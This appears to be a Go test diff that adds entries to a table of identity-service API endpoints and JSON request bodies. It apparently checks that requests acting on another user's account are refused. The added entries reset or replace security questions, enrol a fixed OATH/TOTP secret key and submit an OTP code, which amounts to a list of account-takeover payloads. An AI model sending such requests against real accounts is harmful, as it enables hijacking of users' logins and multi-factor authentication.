@@ -29,6 +29,10 @@ func attempts(id string) map[string]string {
 		"/CDirectoryService/ChangeUserState":     `{"uuid":"` + id + `","state":false}`,
 		"/UserMgmt/SetCloudLock":                 `{"user":"` + id + `","lockUser":true}`,
 		"/UserMgmt/RemoveUser":                   `{"ID":"` + id + `"}`,
+		"/UserMgmt/ResetSecurityQuestions":       `{"ID":"` + id + `"}`,
+		"/UserMgmt/UpdateSecurityQuestions":      `{"ID":"` + id + `","Added":[{"QuestionText":"Who?","Answer":"Somebody else"}]}`,
+		"/Oath/AddOrUpdateProfile":               `{"UserProfile":{"UserPrincipalName":"` + id + `","SecretKey":"JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP"}}`,
+		"/Security/SubmitOathOtpCode":            `{"userUuid":"` + id + `","otpCode":"000000"}`,
 	}
 }
 
